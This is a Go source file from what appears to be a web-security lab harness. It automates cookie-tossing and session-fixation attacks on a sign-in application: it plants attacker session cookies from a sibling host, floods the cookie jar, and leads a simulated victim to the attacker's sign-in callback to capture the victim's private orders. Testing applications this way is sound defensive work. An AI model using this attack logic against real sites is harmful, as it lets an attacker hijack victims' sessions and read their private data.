package attack

import (
	"cmp"
	"context"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strings"

	"cloakroom/shared/lab"
)

// tossing is X3: a sibling host sets cookies for the whole site, so that the
// victim's application takes the attacker's session for the victim's. What the
// victim does then, the attacker has (RFC 6265 §8.6, BBA-24, BBA-25).
func (m *mission) tossing(ctx context.Context) error {
	own, err := m.attacker.signIn(ctx, m.target, mallory.Name, mallory.Password)
	if err != nil {
		return err
	}
	m.step("%s signed in at the application with a client of its own", mallory.Name)
	return m.toss(ctx, own.asCookies(), "200", func() error { return m.surprise(ctx, own) })
}

// toss plants cookies from the sibling, for as long as use takes.
func (m *mission) toss(ctx context.Context, cookies, flood string, use func() error) error {
	parameters := func(age, flood string) map[string]string {
		return map[string]string{
			"cookies": cookies, "domain": "lab.localhost", "paths": `["/"]`, "age": age, "flood": flood,
		}
	}
	got, err := m.lure(ctx, m.attacker.sibling, "tossing", parameters("3600", flood))
	if err != nil {
		return err
	}
	m.evidence.Finished = got.Error == ""
	m.step("the page set %s for every host of the site, and %s to push others out of the jar; it reads back %s",
		got.Places["tried"], got.Places["flooded"], got.Places["kept"])
	m.step("in the end its jar has for the site: %s", got.Places["names"])
	if err := use(); err != nil {
		return err
	}
	if _, err := m.lure(ctx, m.attacker.sibling, "tossing", parameters("0", "0")); err != nil {
		return fmt.Errorf("attack: take the planted cookies away: %w", err)
	}
	m.step("the sibling took its cookies away again, for the sake of what follows")
	return nil
}

// asCookies are the cookies an account's browser would have for the
// application, as JSON. A page that keeps its tokens in cookies has them there.
func (a *account) asCookies() string {
	list := slices.Clone(a.cookies[hostOf(a.attacker.world.Origin(a.target.ID))])
	if a.tokens.Access != "" {
		list = append(list, cookie{"access_token", a.tokens.Access}, cookie{"refresh_token", a.tokens.Refresh}, cookie{"id_token", a.tokens.ID}, cookie{"expires", "99999999999999"})
	}
	pairs := [][2]string{}
	for _, c := range list {
		pairs = append(pairs, [2]string{c.name, c.value})
	}
	text, _ := json.Marshal(pairs) // strings
	return string(text)
}

func hostOf(address string) string {
	u, err := url.Parse(address)
	if err != nil {
		return ""
	}
	return u.Hostname()
}

// surprise has the victim use the application as on any other day, and looks
// who has the order then: it is the attacker's if an account of its own has it.
func (m *mission) surprise(ctx context.Context, own *account) error {
	state, err := enter(ctx, m.browser, m.world, m.target)
	if err != nil {
		return err
	}
	m.step("the victim came back to the application, which was %q", state)
	if state != "in" {
		if state == "failed" { // a person loads the page again
			state, err = enter(ctx, m.browser, m.world, m.target)
		}
		if err == nil && state == "out" {
			err = begin(ctx, m.browser, m.world, m.target, cmp.Or(m.options.SignIn, patience))
			m.step("the victim signed in again")
		}
		if err != nil {
			m.step("the victim cannot sign in: %s", strings.ReplaceAll(err.Error(), m.attacker.origin, "the attacker's"))
			return nil
		}
	}
	item := "something private " + rand.Text()
	if err := m.browser.Run(ctx, `(() => {
		document.documentElement.dataset.state = "unknown";
		document.querySelector("#item").value = `+fmt.Sprintf("%q", item)+`;
		document.querySelector("#order").requestSubmit();
	})()`, nil); err != nil {
		return fmt.Errorf("attack: place an order: %w", err)
	}
	if state, err = until(ctx, m.browser, fmt.Sprintf(where, m.world.Origin(m.target.ID))); err != nil {
		return err
	}
	m.step("the victim ordered something private; the application was %q", state)
	orders, err := own.orders(ctx)
	if err != nil {
		m.step("the attacker's own session does not answer any more: %s", err)
		return nil
	}
	for _, order := range orders {
		if order.Item == item {
			m.change("the victim's order went into the attacker's account, where the attacker's client read it")
		}
	}
	return nil
}

// fixation gives the victim a session, or a sign-in, that the attacker began.
func (m *mission) fixation(ctx context.Context) error {
	// A sign-in of the attacker's, up to the provider's answer: the victim's
	// browser is to bring that to the application (RFC 9700 §4.7).
	own, start := m.attacker.newAccount(m.target)
	callback, err := own.answer(ctx, start, mallory.Name, mallory.Password)
	if err != nil {
		return err
	}
	before := own.asCookies()
	m.step("the attacker began a sign-in of its own, and kept the cookies of it and the provider's answer, unused")
	return m.toss(ctx, before, "0", func() error { return m.fixate(ctx, own, callback) })
}

func (m *mission) fixate(ctx context.Context, own *account, callback string) error {
	// One: the victim signs in while these are in the jar. Are they good for
	// the victim's data then?
	state, err := enter(ctx, m.browser, m.world, m.target)
	if err == nil && state == "out" {
		err = begin(ctx, m.browser, m.world, m.target, cmp.Or(m.options.SignIn, patience))
	}
	if err != nil {
		return err
	}
	if cookies := own.at(m.world.Origin(m.target.ID)); cookies != "" {
		m.step("the victim signed in; the attacker's client tried the cookies it had planted")
		if err := m.spend(ctx, []piece{{lab.KindCookie, "planted before the sign-in", cookies}}); err != nil {
			return err
		}
	}

	// Two: the victim's browser is led to the answer that belongs to the
	// attacker. Does the application take it?
	if err := m.browser.Go(ctx, callback); err != nil {
		return fmt.Errorf("attack: lead the victim to the answer: %w", err)
	}
	status, err := until(ctx, m.browser, settled)
	if err != nil {
		return err
	}
	m.step("a link led the victim to %s with the attacker's code: the page was %q", m.world.RedirectURI(m.target), cmp.Or(status, "?"))
	other, err := m.attacker.signIn(ctx, m.target, mallory.Name, mallory.Password)
	if err != nil {
		return err
	}
	return m.surprise(ctx, other)
}

// settled is what any page is once it does nothing more by itself.
const settled = `(() => {
	if (document.readyState !== "complete") return "";
	const state = document.documentElement.dataset.state;
	return state === "unknown" ? "" : state ?? "without an application";
})()`
